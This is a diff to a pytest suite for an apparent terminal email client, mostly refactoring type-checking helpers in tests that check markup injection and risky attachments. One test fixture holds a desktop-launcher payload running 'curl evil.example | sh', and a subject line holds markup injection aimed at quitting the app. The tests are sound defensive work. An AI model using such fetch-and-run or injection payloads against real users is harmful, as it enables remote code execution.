@@ -8,6 +8,7 @@ from pathlib import Path
 
 import pytest
 from textual.command import CommandPalette
+from textual.widgets import Static
 
 from pigeon import locations
 from pigeon.core.attachments import attachment_bytes, attachment_filename, save_into
@@ -17,8 +18,8 @@ from pigeon.tui.screens.modals import ConfirmScreen
 from pigeon.tui.widgets.reader import Reader
 from pigeon.tui.widgets.thread_list import ThreadList
 from pigeon_service.db import iso
-from tests.server.conftest import NOW, Service
-from tests.tui.conftest import SIZE, Notes, loaded, palette_hits, pigeon_for, screen_text, settle
+from tests.server.conftest import NOW, Service, first_thread
+from tests.tui.conftest import SIZE, Notes, current_id, loaded, on_screen, palette_hits, pigeon_for, screen_text, settle
 
 SUBJECT = "[@click=app.quit]Click me[/] [PATCH v2] fix [/] [link=https://evil.example]x[/link]"
 BODY = (
@@ -163,7 +164,7 @@ async def test_a_linked_download_folder_is_named_by_its_real_place(
         assert f"Saved {real.resolve() / 'x'}" in notes.text
         await pilot.press("a")
         await settle(pilot, app, lambda: isinstance(app.screen, ConfirmScreen))
-        question = app.screen.question.plain  # type: ignore[attr-defined]
+        question = on_screen(app, ConfirmScreen).question.plain
         assert question == f"Replace x in {real.resolve()}?"
 
 
@@ -233,7 +234,7 @@ async def test_a_label_made_of_markup_is_text_in_the_sidebar_and_the_palette(ser
     async with app.run_test(size=SIZE) as pilot:
         threads = await loaded(pilot, app)
         app.core.store.label([threads.source.row(0).id], "[/] [@click=app.quit]q[/]")
-        screen: MainScreen = app.screen  # type: ignore[assignment]
+        screen = on_screen(app, MainScreen)
         screen.show_threads()
         await settle(pilot, app, lambda: any(v.startswith("label:") for v in screen.label_views))
         await pilot.press("ctrl+p")  # discovery lists every command, the label's view included
@@ -319,7 +320,8 @@ async def test_the_reader_shows_the_address_a_message_came_from(service: Service
         named = [m for m in reader.messages if m.sender and m.sender.contact and m.sender.contact.name]
         assert named
         for message in named:
-            assert f"From: {message.sender.raw_address}" in reader.text  # type: ignore[union-attr]
+            assert message.sender is not None
+            assert f"From: {message.sender.raw_address}" in reader.text
 
 
 async def test_keys_are_answered_while_a_long_thread_is_laid_out(
@@ -353,13 +355,13 @@ async def test_keys_are_answered_while_a_long_thread_is_laid_out(
                     return
             raise AssertionError("not reached")
 
-        await until(lambda: "Laying out" in str(reader.query_one("#reader-content").visual))
+        await until(lambda: "Laying out" in str(reader.query_one("#reader-content", Static).visual))
         assert laid_out_on  # in a thread, not on the UI's
         await pilot.press("escape", "j")  # answered while the layout goes on
         await until(lambda: threads.cursor == 1 and app.focused is threads)
         gate.set()
         # the reader previews the thread the cursor rests on; the long layout, older, does not land over it
-        await settle(pilot, app, lambda: reader.thread is not None and reader.thread.id == threads.current.id)  # type: ignore[union-attr]
+        await settle(pilot, app, lambda: reader.thread is not None and reader.thread.id == current_id(threads))
         assert "more characters not shown" not in reader.text
 
 
@@ -372,7 +374,7 @@ async def test_an_attachment_whose_contents_are_a_launcher_asks_before_it_opens_
 
     opener, record = recording_program(tmp_path / "bin", "opener", monkeypatch)
     launcher = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil.example | sh'\n"
-    thread = service.db.list_threads(service.alice.id, page_size=1, page_token=None)[0][0]
+    thread_id = first_thread(service, service.alice)  # the newest
     block = {
         "type": "CONTENT_TYPE_FILE",
         "mime_type": "text/plain",
@@ -380,7 +382,7 @@ async def test_an_attachment_whose_contents_are_a_launcher_asks_before_it_opens_
         "content": base64.b64encode(launcher).decode(),
         "metadata": {"encoding": "base64"},
     }
-    service.add_message(service.alice, thread.id, sender_address="ann@example.com", content_blocks=[block])
+    service.add_message(service.alice, thread_id, sender_address="ann@example.com", content_blocks=[block])
     config = load_config(base_url=BASE)
     config.ui.open_command = [str(opener)]
     app = pigeon_for(service, config=config)
@@ -395,7 +397,7 @@ async def test_an_attachment_whose_contents_are_a_launcher_asks_before_it_opens_
             await settle(pilot, app, lambda: bool(app.screen.query("#pick")))
             await pilot.press(*["down"] * names.index("notes.txt. "), "enter")
         await settle(pilot, app, lambda: isinstance(app.screen, ConfirmScreen))
-        question = app.screen.question.plain  # type: ignore[attr-defined]
+        question = on_screen(app, ConfirmScreen).question.plain
         assert "its contents are a launcher" in question
         assert record.runs() == []
         await pilot.press("y")
